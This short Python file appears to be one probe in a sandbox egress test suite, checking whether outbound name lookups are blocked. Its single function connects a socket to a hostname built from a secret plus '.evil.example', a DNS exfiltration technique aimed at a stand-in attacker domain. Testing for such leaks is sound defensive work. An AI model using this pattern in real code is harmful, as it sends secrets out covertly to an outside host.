# class: network
# rule: outbound_connectivity
# success: a name that carries data is looked up when a socket connects to it
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.socket().connect_ex((SECRET + ".evil.example", 9)) is not None
